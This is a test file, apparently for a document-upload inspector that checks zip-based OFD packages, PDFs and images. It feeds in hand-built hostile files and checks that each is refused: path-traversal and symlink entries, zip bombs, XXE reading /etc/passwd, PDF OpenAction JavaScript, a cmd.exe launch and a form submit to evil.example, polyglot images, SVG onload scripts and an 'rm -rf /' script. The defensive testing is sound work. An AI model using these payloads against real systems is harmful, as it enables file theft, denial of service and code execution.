import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
import fc from 'fast-check'
import { unzipSync, zipSync } from 'fflate'
import sharp from 'sharp'
import { describe, expect, it } from 'vitest'
import { Problem } from '../../../platform/contract/problem.ts'
import { problems } from '../contract.ts'
import { inspect } from './inspect.ts'
import { openZip } from './inspect-zip.ts'

async function refusalOf(content: Buffer): Promise<string> {
  const thrown: unknown = await inspect(content).then(
    ({ mime }) => `accepted as ${mime}`,
    (error: unknown) => error,
  )
  return thrown instanceof Problem ? `${thrown.definition.code} ${thrown.detail ?? ''}` : String(thrown)
}
const xml = Buffer.from('<ofd:OFD/>')
const ofd = (more: Record<string, Buffer> = {}) => Buffer.from(zipSync({ 'OFD.xml': xml, 'Doc_0/Document.xml': xml, ...more }))

interface Part {
  readonly name: string
  readonly content: Buffer
  readonly localName?: string
  readonly size?: number
  readonly crc?: number
  readonly mode?: number
  readonly flags?: number
  readonly between?: Buffer
}

/** A zip package written by hand, so that its headers can lie. */
function aZip(parts: readonly Part[], { before = Buffer.alloc(0), after = Buffer.alloc(0), comment = '' } = {}): Buffer {
  const bodies: Buffer[] = [before]
  const directory: Buffer[] = []
  let at = before.length
  for (const { name, content, localName = name, size = content.length, crc = crc32(content), mode = 0, flags = 0, between } of parts) {
    const packed = deflateRawSync(content)
    const head = Buffer.alloc(30)
    head.writeUInt32LE(0x04034b50, 0)
    head.writeUInt16LE(20, 4)
    head.writeUInt16LE(flags, 6)
    head.writeUInt16LE(8, 8)
    head.writeUInt32LE(crc, 14)
    head.writeUInt32LE(packed.length, 18)
    head.writeUInt32LE(size, 22)
    head.writeUInt16LE(Buffer.byteLength(localName), 26)
    const local = Buffer.concat([head, Buffer.from(localName), packed, between ?? Buffer.alloc(0)])
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE((3 << 8) | 20, 4)
    entry.writeUInt16LE(20, 6)
    entry.writeUInt16LE(flags, 8)
    entry.writeUInt16LE(8, 10)
    entry.writeUInt32LE(crc, 16)
    entry.writeUInt32LE(packed.length, 20)
    entry.writeUInt32LE(size, 24)
    entry.writeUInt16LE(Buffer.byteLength(name), 28)
    entry.writeUInt32LE((mode << 16) >>> 0, 38)
    entry.writeUInt32LE(at, 42)
    directory.push(Buffer.concat([entry, Buffer.from(name)]))
    bodies.push(local)
    at += local.length
  }
  const list = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(parts.length, 8)
  end.writeUInt16LE(parts.length, 10)
  end.writeUInt32LE(list.length, 12)
  end.writeUInt32LE(at, 16)
  end.writeUInt16LE(comment.length, 20)
  return Buffer.concat([...bodies, list, end, Buffer.from(comment), after])
}
const main = { name: 'OFD.xml', content: xml }

describe('packages', () => {
  it('made by hand and true are accepted, so that the refusals below mean something', async () => {
    expect(await refusalOf(aZip([main, { name: 'Doc_0/Document.xml', content: xml }]))).toBe('accepted as application/ofd')
  })

  it.each([
    ['../OFD.xml', '路径越界'],
    ['/etc/passwd', '路径越界'],
    ['C:\\windows\\x.xml', '路径越界'],
    ['Doc_0\\Document.xml', '路径越界'],
    ['Doc_0//x.xml', '路径越界'],
    ['Doc_0/./x.xml', '路径越界'],
    ['Doc\u0000.xml', '不可见字符'],
    ['Doc\u202exml.js', '不可见字符'],
    ['ofd.XML', '重复条目'],
  ])('with an entry called %j are refused: %s', async (name, rule) => {
    expect(await refusalOf(aZip([main, { name, content: xml }]))).toMatch(new RegExp(`^${problems.unsafePackage.code}.*${rule}`))
  })

  it.each<[string, Buffer, string]>([
    ['something before them', aZip([main], { before: Buffer.from('GIF89a') }), ''],
    ['something behind them', aZip([main], { after: Buffer.from('%PDF-1.7 %%EOF') }), '包尾有附加数据'],
    ['a comment', aZip([main], { comment: '<script>' }), '包尾有附加数据'],
    [
      'something between entries',
      aZip([
        { ...main, between: Buffer.from('MZ') },
        { name: 'a.xml', content: xml },
      ]),
      '夹带',
    ],
    ['another name in the local header', aZip([main, { name: 'a.xml', localName: 'b.xml', content: xml }]), '前后不一致'],
    ['a symbolic link', aZip([main, { name: 'a.xml', content: Buffer.from('/etc/passwd'), mode: 0o120777 }]), '符号链接'],
    ['an encrypted entry', aZip([main, { name: 'a.xml', content: xml, flags: 1 }]), '加密'],
    ['a size that lies', aZip([main, { name: 'a.xml', content: Buffer.alloc(5_000_000), size: 10 }]), '大小不实'],
    ['a checksum that lies', aZip([main, { name: 'a.xml', content: xml, crc: 1 }]), '校验不实'],
    ['more than 100 MB inside', aZip([main, { name: 'a.bin', content: Buffer.alloc(101 * 1024 * 1024) }]), '超过 100 MB'],
    ['too many entries', aZip([main, ...Array.from({ length: 2000 }, (_, n) => ({ name: `${n}.xml`, content: xml }))]), '条目超过'],
    ['an external entity', ofd({ 'a.xml': Buffer.from('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>') }), '外部实体'],
    ['an external entity in UTF-16', ofd({ 'a.xml': Buffer.from('\ufeff<!DOCTYPE x><x/>', 'utf16le') }), '外部实体'],
    ['a program by its bytes', ofd({ 'Res/image.png': Buffer.from('MZ\x90\0') }), '程序'],
    ['a page', ofd({ 'Res/a.html': Buffer.from('<p>') }), '程序或网页'],
    ['a package in the package', ofd({ 'Res/a.bin': ofd() }), '压缩包'],
    ['sound that starts by itself', ofd({ 'a.xml': Buffer.from('<ofd:Sound ResourceID="1"/>') }), '自动播放'],
  ])('with %s are refused', async (_, content, rule) => {
    const refusal = await refusalOf(content)
    if (rule === '') expect(refusal).toContain(problems.unknownType.code)
    else expect(refusal).toMatch(new RegExp(`^${problems.unsafePackage.code}.*${rule}`))
  })

  it('overlapping entries, as in bombs without nesting, are refused', async () => {
    const content = aZip([main, { name: 'a.xml', content: Buffer.alloc(100_000) }])
    const second = content.lastIndexOf(Buffer.from('504b0102', 'hex'))
    content.writeUInt32LE(0, second + 42)
    expect(await refusalOf(content)).toContain(problems.unsafePackage.code)
  })

  it('flipped anywhere are accepted only where another reader sees the very same entries', async () => {
    const whole = ofd()
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 6 }), async (flips) => {
        const content = Buffer.from(whole)
        for (const [at, value] of flips) content[at] = value
        const opened = openZip(content)
        if (!('entries' in opened)) return
        const seen = Object.entries(unzipSync(content)).map(([name, bytes]) => [name, Buffer.from(bytes).toString('hex')])
        expect(opened.entries.map(({ name, content }) => [name, content.toString('hex')]).sort()).toEqual(seen.sort())
      }),
      { numRuns: 400 },
    )
  })

  it('whatever the bytes, the reader answers with entries or a rule and never breaks', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 400 }), fc.nat(3), (noise, kind) => {
        const tail = aZip([main])
        const content = [Buffer.from(noise), Buffer.concat([tail, noise]), Buffer.concat([noise, tail]), tail.subarray(0, noise.length)][
          kind
        ]
        const opened = openZip(content ?? Buffer.alloc(0))
        expect('entries' in opened || opened.fault.length > 0).toBe(true)
      }),
      { numRuns: 500 },
    )
  })
})

async function aPdf(change: (document: PDFDocument) => void = () => {}, options = {}): Promise<Buffer> {
  const document = await PDFDocument.create()
  document.addPage()
  change(document)
  return Buffer.from(await document.save(options))
}
const onOpen = (action: Record<string, unknown>) =>
  aPdf((document) => document.catalog.set(PDFName.of('OpenAction'), document.context.obj(action as never)))
const anAttachment = async (name: string, content: Buffer) => {
  const document = await PDFDocument.create()
  document.addPage()
  await document.attach(content, name)
  return Buffer.from(await document.save())
}

/** A PDF with one object stream of this many unpacked bytes. */
function swelling(size: number, filters = '/FlateDecode', packed = deflateSync(Buffer.alloc(size, 0x20), { level: 9 })): Buffer {
  const head = Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /#4fbjStm /N 1 /First 4 /Filter ${filters} /Length ${packed.length} >>\nstream\n`)
  return Buffer.concat([head, packed, Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 2 0 R >>\n%%EOF\n')])
}

describe('PDF', () => {
  it.each<[string, () => Promise<Buffer>]>([
    ['JavaScript when it opens', () => onOpen({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })],
    ['a program to launch', () => onOpen({ S: 'Launch', F: PDFString.of('cmd.exe') })],
    ['a form that sends itself', () => onOpen({ S: 'SubmitForm', F: PDFString.of('http://evil.example') })],
    ['another file to open', () => onOpen({ S: 'GoToR', F: PDFString.of('\\\\evil\\share\\a.pdf') })],
    ['an embedded file to open', () => onOpen({ S: 'GoToE' })],
    ['data to import', () => onOpen({ S: 'ImportData', F: PDFString.of('a.fdf') })],
    ['a page of the network that opens by itself', () => onOpen({ S: 'URI', URI: PDFString.of('http://evil.example') })],
    ['an XFA form', () => aPdf((document) => document.catalog.set(PDFName.of('AcroForm'), document.context.obj({ XFA: [] })))],
    ['a film', () => aPdf((document) => document.context.register(document.context.obj({ Type: 'Annot', Subtype: 'Movie' })))],
    ['a file as annotation', () => aPdf((document) => document.context.register(document.context.obj({ Subtype: 'FileAttachment' })))],
    ['an attachment', () => anAttachment('读我.txt', Buffer.from('text'))],
    ['a program under the name of our own data', () => anAttachment('data.json', Buffer.from('MZ\x90\0'))],
    ['a program under the name of our own seal', () => anAttachment('seal.esl', Buffer.from('#!/bin/sh'))],
  ])('with %s is refused as active', async (_, made) => {
    expect(await refusalOf(await made())).toContain(problems.activeContent.code)
  })

  it('with links, bookmarks that open a page of it, and our own data attached is accepted', async () => {
    expect(await refusalOf(await onOpen({ S: 'GoTo', D: [0, 'Fit'] }))).toBe('accepted as application/pdf')
    expect(await refusalOf(await anAttachment('data.json', Buffer.from('{"a":1}')))).toBe('accepted as application/pdf')
    const link = await aPdf((document) =>
      document.context.register(document.context.obj({ S: 'URI', URI: PDFString.of('https://www.gov.cn') })),
    )
    expect(await refusalOf(link)).toBe('accepted as application/pdf')
  })

  it('that is something else besides is refused', async () => {
    const plain = await aPdf()
    expect(await refusalOf(Buffer.concat([plain, aZip([main])]))).toContain('夹带其他数据')
    expect(await refusalOf(Buffer.concat([plain, Buffer.from('<script>alert(1)</script>')]))).toContain('夹带其他数据')
    expect(await refusalOf(Buffer.concat([Buffer.from('\n\n'), plain]))).not.toContain('accepted')
    const comment = Buffer.concat([plain.subarray(0, 9), Buffer.from('%<html><script>alert(1)</script>\n'), plain.subarray(9)])
    expect(await refusalOf(comment)).toContain('网页代码')
    const tail = Buffer.from('\n%%EOF\n')
    const zip = aZip([main], { comment: tail.toString('latin1') })
    expect(await refusalOf(Buffer.concat([plain, Buffer.from('%'), zip]))).toContain('压缩包')
  })

  it('whose objects swell is refused before they are unpacked, in bounded time and memory', async () => {
    const before = process.memoryUsage().rss
    const started = performance.now()
    expect(await refusalOf(swelling(300_000_000))).toContain(problems.swellingPdf.code)
    expect(await refusalOf(swelling(1000, '[/FlateDecode /Fl]', deflateSync(deflateSync(Buffer.alloc(1_000_000)))))).toContain('多重压缩')
    expect(await refusalOf(swelling(1000, '[/ASCII85Decode /FlateDecode]'))).toContain('编码方式')
    expect(performance.now() - started).toBeLessThan(15_000)
    expect(process.memoryUsage().rss - before).toBeLessThan(900_000_000)
  })

  it('nested without end is refused and breaks nothing', async () => {
    const deep = `%PDF-1.7\n1 0 obj\n${'['.repeat(60_000)}${']'.repeat(60_000)}\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`
    expect(await refusalOf(Buffer.from(deep))).toContain('files.')
  })

  it('flipped anywhere is accepted or refused by a rule, never an error of ours', async () => {
    const whole = await aPdf((document) => document.context.register(document.context.obj({ S: 'URI', URI: PDFString.of('x') })), {
      useObjectStreams: false,
    })
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 12 }), async (flips) => {
        const content = Buffer.from(whole)
        for (const [at, value] of flips) content[at] = value
        expect(await refusalOf(content)).toMatch(/^(accepted|files\.)/)
      }),
      { numRuns: 150 },
    )
  })
})

describe('pictures', () => {
  const red = { create: { width: 40, height: 30, channels: 3 as const, background: '#c00' } }

  it('lose the place where they were taken, comments and texts', async () => {
    const gps = { IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '26/1 34/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '101/1 43/1 0/1' } }
    const photo = await sharp(red)
      .withExif({ IFD0: { Model: 'Phone-42' }, ...gps })
      .jpeg()
      .toBuffer()
    expect(photo.includes('Phone-42')).toBe(true)
    const { content } = await inspect(photo)
    expect((await sharp(content).metadata()).exif).toBeUndefined()
    expect(content.includes('Phone-42')).toBe(false)
  })

  it('that are pages, packages or documents besides lose what is not picture', async () => {
    const png = await sharp(red).png().toBuffer()
    const jpeg = await sharp(red).jpeg().toBuffer()
    const second = Buffer.concat([
      jpeg.subarray(0, 2),
      Buffer.from('fffe0021', 'hex'),
      Buffer.from('*/=1;alert(document.domain);/*x'),
      jpeg.subarray(2),
    ])
    for (const polyglot of [Buffer.concat([png, aZip([main])]), Buffer.concat([png, await aPdf()]), second]) {
      const { content } = await inspect(polyglot)
      expect(content.includes('PK\x03\x04') || content.includes('%PDF') || content.includes('alert(')).toBe(false)
    }
  })

  it('with a text that swells inside, or a size that lies, cost nothing', async () => {
    const png = await sharp(red).png().toBuffer()
    const data = Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(100_000_000), { level: 9 })])
    const chunk = Buffer.concat([Buffer.from('zTXt'), data])
    const length = Buffer.alloc(4)
    length.writeUInt32BE(data.length)
    const sum = Buffer.alloc(4)
    sum.writeUInt32BE(crc32(chunk))
    const swollen = Buffer.concat([png.subarray(0, 33), length, chunk, sum, png.subarray(33)])
    const started = performance.now()
    expect(await refusalOf(swollen)).toMatch(/^(accepted as image\/png|files\.broken-image)/)
    const lying = Buffer.from(png)
    lying.writeUInt32BE(60_000, 16)
    lying.writeUInt32BE(60_000, 20)
    lying.writeUInt32BE(crc32(lying.subarray(12, 29)), 29)
    expect(await refusalOf(lying)).toContain(problems.tooManyPixels.code)
    expect(performance.now() - started).toBeLessThan(10_000)
  })

  it('flipped anywhere are re-encoded or refused, never an error of ours', async () => {
    const whole = await sharp(red).jpeg().toBuffer()
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 10 }), async (flips) => {
        const content = Buffer.from(whole)
        for (const [at, value] of flips) content[at] = value
        expect(await refusalOf(content)).toMatch(/^(accepted as image\/|files\.)/)
      }),
      { numRuns: 80 },
    )
  })
})

describe('everything else', () => {
  it.each<[string, Buffer, string]>([
    ['SVG', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'SVG'],
    ['SVG with its XML line', Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'), '只能上传'],
    ['HTML', Buffer.from('<!DOCTYPE html><script>alert(1)</script>'), '网页'],
    ['a program', Buffer.from('MZ\x90\0'.padEnd(200, '\0')), '程序'],
    ['a script', Buffer.from('#!/bin/sh\nrm -rf /\n'), '脚本程序'],
    ['a Word document', aZip([{ name: 'word/document.xml', content: xml }]), 'Word'],
    ['a package', aZip([{ name: 'a.txt', content: xml }]), '压缩包'],
    ['GIF', Buffer.from('GIF89a\x01\0\x01\0\0\0\0;'), 'GIF'],
    ['one byte', Buffer.from('x'), '其他类型'],
  ])('%s is refused and named', async (_, content, word) => {
    const refusal = await refusalOf(content)
    expect(refusal).toContain(problems.unknownType.code)
    expect(refusal).toContain(word)
  })
})
